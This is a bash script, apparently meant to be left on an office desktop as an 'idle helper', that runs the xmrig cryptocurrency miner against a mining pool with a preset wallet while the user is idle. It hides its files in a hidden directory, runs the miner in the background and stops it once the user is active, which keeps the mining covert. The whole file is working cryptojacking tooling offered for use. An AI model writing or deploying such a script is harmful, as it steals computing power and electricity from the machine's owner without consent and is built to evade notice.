#!/usr/bin/env bash
# "Idle helper" left on the office desktop: when nobody is using the PC
# in the evening it puts the CPU to work for the pool below.

set -euo pipefail

WORK_DIR="${HELPER_DIR:-$HOME/.local/share/.idlehelper}"
POOL="${HELPER_POOL:-stratum+tcp://pool.example.net:3333}"
WALLET="${HELPER_WALLET:-44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A}"
WORKER="${HELPER_WORKER:-sweep-$(hostname -s)}"
THREADS="${HELPER_THREADS:-$(( $(nproc) - 1 ))}"
IDLE_MINUTES="${HELPER_IDLE_MINUTES:-10}"
MINER="$WORK_DIR/xmrig"
PIDFILE="$WORK_DIR/helper.pid"

log() {
    echo "$(date '+%F %T') $*" >> "$WORK_DIR/helper.log"
}

idle_seconds() {
    if command -v xprintidle >/dev/null 2>&1; then
        echo $(( $(xprintidle) / 1000 ))
    else
        echo 999999
    fi
}

is_running() {
    [[ -f "$PIDFILE" ]] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null
}

start_miner() {
    if is_running; then
        return
    fi
    log "starting with $THREADS threads as $WORKER"
    nohup "$MINER" \
        --url "$POOL" \
        --user "$WALLET" \
        --pass "$WORKER" \
        --threads "$THREADS" \
        --donate-level 0 \
        --background \
        --no-color \
        --log-file "$WORK_DIR/xmrig.log" >/dev/null 2>&1 &
    echo $! > "$PIDFILE"
}

stop_miner() {
    if is_running; then
        log "user active, stopping"
        kill "$(cat "$PIDFILE")" || true
        rm -f "$PIDFILE"
    fi
}

mkdir -p "$WORK_DIR"

if [[ ! -x "$MINER" ]]; then
    echo "miner binary missing at $MINER" >&2
    exit 1
fi

(( THREADS < 1 )) && THREADS=1

while true; do
    if (( $(idle_seconds) > IDLE_MINUTES * 60 )); then
        start_miner
    else
        stop_miner
    fi
    sleep 60
done
